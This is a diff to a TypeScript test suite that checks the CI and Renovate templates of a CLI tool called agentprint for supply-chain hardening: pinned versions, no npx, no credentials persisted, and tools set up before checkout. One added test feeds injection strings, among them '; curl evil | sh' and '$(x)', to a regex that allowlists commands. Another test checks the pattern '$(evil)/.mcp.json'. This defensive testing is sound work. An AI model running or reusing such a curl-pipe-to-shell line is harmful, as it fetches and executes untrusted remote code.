@@ -16,14 +16,14 @@ beforeEach(() => {
 afterEach(() => workspace[Symbol.dispose]());
 
 const template = (name: string): string =>
-  readFileSync(join(REPOSITORY, "apps/cli/templates", name), "utf8").replaceAll("{version}", "0.1.0");
+  readFileSync(join(REPOSITORY, "apps/cli/templates", name), "utf8")
+    .replaceAll("{version}", "0.1.0")
+    .replaceAll("{integrity}", '""');
 
-/** Runs a line of a shell in which npx and npm bring agentprint@0.1.0 from source. */
+/** Runs a line of a shell in which npm brings agentprint@0.1.0 from source. */
 function shell(line: string, env: Readonly<Record<string, string>>, folder = workspace.folder) {
   mkdirSync(workspace.path("bin"), { recursive: true });
   const words = AGENTPRINT.map((word) => `"${word}"`).join(" ");
-  const npx = `#!/bin/sh\n[ "$1 $2" = "--yes agentprint@0.1.0" ] || exit 99\nshift 2\nexec ${words} "$@"\n`;
-  writeFileSync(workspace.path("bin/npx"), npx, { mode: 0o755 });
   const npm = `#!/bin/sh
 [ "$1 $2" = "install --prefix" ] && [ "$#:$6:$7" = "7:--ignore-scripts:agentprint@0.1.0" ] || exit 99
 if [ -e .npmrc ]; then exit 98; fi
@@ -48,7 +48,8 @@ function runFile(service: "github" | "gitlab", base: string, text: string) {
     const line = (parse(template("gitlab.yml")).agentprint.script as string[]).join("\n");
     return shell(line, { ...env, CI_PROJECT_DIR: workspace.folder, CI_MERGE_REQUEST_DIFF_BASE_SHA: base });
   }
-  const [install, check] = (parse(template("github.yml")).jobs.check.steps as Record<string, string>[]).slice(-2);
+  const steps = parse(template("github.yml")).jobs.check.steps as Record<string, string>[];
+  const [install, check] = steps.filter(({ run }) => run !== undefined);
   const runner = { RUNNER_TEMP: workspace.path("temp"), GITHUB_STEP_SUMMARY: workspace.path("temp/summary.md") };
   mkdirSync(workspace.path("temp"), { recursive: true });
   expect(shell(install?.["run"] ?? "", runner, runner.RUNNER_TEMP)).toMatchObject({ status: 0 });
@@ -96,7 +97,8 @@ describe("the workflow for hosted Renovate", () => {
     expect(jobs.pin.if).toContain("user.login == 'renovate[bot]'");
     expect(jobs.pin.if).toContain("head.repo.full_name == github.repository");
     expect(JSON.stringify(jobs.pin)).not.toContain("secrets.");
-    expect(stepsOf("pin")[0]?.with).toMatchObject({ "persist-credentials": false });
+    const checkout = stepsOf("pin").find(({ uses }) => uses?.startsWith("actions/checkout@"));
+    expect(checkout?.with).toMatchObject({ "persist-credentials": false });
     const commands = stepsOf("push").flatMap(({ run = "" }) => run);
     expect(commands.join("\n")).not.toMatch(/agentprint["']? pin|npm|npx|node /);
     for (const { run = "" } of [...stepsOf("pin"), ...stepsOf("push")]) expect(run).not.toContain("${" + "{");
@@ -162,8 +164,30 @@ describe("the recipe for Renovate", () => {
       { depName: "plain", currentValue: "2.0.0-rc.1" },
     ]);
     const pattern = new RegExp((manager.managerFilePatterns[0] as string).slice(1, -1));
-    expect([".mcp.json", ".vscode/mcp.json", "mcp.json"].every((file) => pattern.test(file))).toBe(true);
-    expect(["xmcp.json", "mcp.json5"].some((file) => pattern.test(file))).toBe(false);
+    expect(pattern.test(".mcp.json")).toBe(true);
+    expect(["xmcp.json", "x/.mcp.json", "$(evil)/.mcp.json", ".mcp.json5"].some((file) => pattern.test(file))).toBe(
+      false,
+    );
+  });
+
+  const [line = "", ...others] = packageRules[0].postUpgradeTasks.commands as string[];
+  const [, allowed = ""] = /`"(\^\/opt[^`]*)"`/.exec(readFileSync(join(REPOSITORY, "docs/ci.md"), "utf8")) ?? [];
+
+  test("is one command with a fixed path that names no file of the repository, and the only one that is allowed", () => {
+    expect(others).toEqual([]);
+    expect(line).not.toMatch(/npx|\{\{|[;&|$`<>]/);
+    const pattern = new RegExp(JSON.parse(`"${allowed}"`));
+    expect(pattern.test(line)).toBe(true);
+    const more = ["; curl evil | sh", " && x", "\nx", " x", "$(x)", ".x"];
+    for (const other of [
+      ...more.map((each) => line + each),
+      `x${line}`,
+      `x; ${line}`,
+      line.replace("/opt/", "/tmp/"),
+      line.replaceAll(".", "x"),
+    ]) {
+      expect(pattern.test(other), other).toBe(false);
+    }
   });
 
   test("pins a server again after its version was updated", async () => {
@@ -174,8 +198,44 @@ describe("the recipe for Renovate", () => {
     write("server@1.2.3");
     expect((await workspace.run(["pin", "--mcp-config", ".mcp.json"])).code).toBe(0);
     write("server@1.2.4");
-    const [line] = packageRules[0].postUpgradeTasks.commands as string[];
-    expect(shell((line ?? "").replace("{{{packageFile}}}", ".mcp.json"), {}).status).toBe(0);
+    const program = AGENTPRINT.map((word) => `"${word}"`).join(" ");
+    expect(shell(line.replace("/opt/agentprint/node_modules/.bin/agentprint", program), {}).status).toBe(0);
     expect(workspace.lock().servers.map(({ launch }) => launch)).toMatchObject([{ args: [script, "server@1.2.4"] }]);
+  });
+});
+
+describe("the order of steps", () => {
+  const stepsOf = (name: string): { uses?: string; run?: string; with?: Record<string, unknown> }[] =>
+    Object.values(parse(template(name)).jobs as Record<string, { steps: [] }>).flatMap(({ steps }) => steps);
+
+  test.each(["github.yml", "github-action.yml", "renovate-pin.yml"])(
+    "of %s sets tools up before the checkout",
+    (name) => {
+      const uses = stepsOf(name).map((step) => step.uses ?? step.run ?? "");
+      const [checkout, setUp, install] = ["actions/checkout@", "actions/setup-node@", "npm install"].map((text) =>
+        uses.findIndex((each) => each.includes(text)),
+      ) as [number, number, number];
+      expect(setUp).toBeGreaterThanOrEqual(0);
+      expect(setUp).toBeLessThan(checkout);
+      expect(install).toBeLessThan(checkout);
+      expect(stepsOf(name)[setUp]?.with).toMatchObject({ "package-manager-cache": false });
+    },
+  );
+
+  test.each(["github.yml", "github-action.yml"])("of %s is run again where the base is changed", (name) => {
+    const { pull_request: event } = parse(template(name)).on;
+    expect(event.types).toEqual(expect.arrayContaining(["opened", "reopened", "synchronize", "edited"]));
+  });
+
+  test.each([
+    "github.yml",
+    "github-action.yml",
+    "gitlab.yml",
+    "renovate-pin.yml",
+    "renovate.json",
+    "pre-commit-config.yaml",
+  ])("of %s has no program of the checkout, and an exact version", (name) => {
+    const text = template(name);
+    expect(text).not.toMatch(/npx|pull_request_target:|agentprint@(?!0\.1\.0|v0)/);
   });
 });
